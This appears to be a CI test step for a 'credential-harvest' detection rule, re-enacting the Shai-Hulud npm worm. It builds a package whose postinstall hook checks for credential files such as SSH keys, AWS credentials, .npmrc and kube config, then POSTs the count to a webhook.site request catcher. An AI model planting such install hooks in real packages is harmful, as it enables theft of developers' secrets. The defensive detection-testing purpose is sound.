# incident: Shai-Hulud worm, September 2025
# what: the bundle of a package goes through the machine's credentials and sends them to a request catcher
# rule: credential-harvest
## step: Install
mkdir -p $RUNNER_TEMP/color && cd $RUNNER_TEMP/color
cat > package.json <<'X'
{"name": "color", "version": "4.1.1", "scripts": {"postinstall": "node bundle.js"}}
X
cat > bundle.js <<'X'
const fs = require('fs'), http = require('http'), home = process.env.HOME;
const found = ['.npmrc', '.aws/credentials', '.ssh/id_ed25519', '.config/gh/hosts.yml', '.kube/config', '.git-credentials']
  .filter(f => { try { return fs.readFileSync(home + '/' + f).length > 0 } catch { return false } });
http.request({host: 'webhook.site', path: '/bb8ca5f6', method: 'POST'}, r => r.resume()).end(String(found.length));
X
cd $GITHUB_WORKSPACE && npm install --install-links $RUNNER_TEMP/color
